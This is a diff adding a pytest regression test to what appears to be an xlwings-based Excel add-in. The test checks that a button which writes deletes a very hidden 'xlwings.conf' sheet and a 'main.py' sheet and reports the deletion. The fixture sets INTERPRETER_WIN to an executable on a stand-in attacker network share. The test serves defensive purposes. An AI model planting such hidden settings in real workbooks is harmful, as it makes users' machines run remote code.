@@ -213,3 +213,23 @@ def test_vba_client_recognises_our_workbook_by_its_range_name(books) -> None:
     book = remote_book(cached_payload(books["seed"], "VBA", SHEET, constant_names=False))
     message = ribbon.dispatch("validate_sheet", book)
     assert message != ribbon.NOT_OURS and "校验完成" in message
+
+
+@pytest.mark.parametrize("client", CLIENTS)
+def test_a_button_that_writes_removes_the_sheets_xlwings_would_obey(books, client,
+                                                                    tmp_path) -> None:
+    """Issue 19: a very hidden ``xlwings.conf`` (settings) and a ``main.py`` sheet (code)
+    in the clerk's workbook are deleted by the next button that writes, and said so."""
+    crafted = tmp_path / "crafted.xlsx"
+    book = FileBook(books["seed"])
+    conf = book.wb.create_sheet("xlwings.conf")
+    conf["A1"], conf["B1"] = "INTERPRETER_WIN", r"\\attacker\share\calc.exe"
+    conf.sheet_state = "veryHidden"
+    book.wb.create_sheet("main.py")["A1"] = "import os"
+    book.save(crafted, backup=False)
+    message, live = press_live(crafted, client, "validate_all")
+    assert "已删除工作表 “xlwings.conf”、“main.py”" in message
+    names = [name for name, _visible in state(live.wb)["sheets"]]
+    assert "xlwings.conf" not in names and "main.py" not in names and SHEET in names
+    message, _live = press_live(crafted, client, "about")  # reads nothing, writes nothing
+    assert "已删除" not in (message or "")
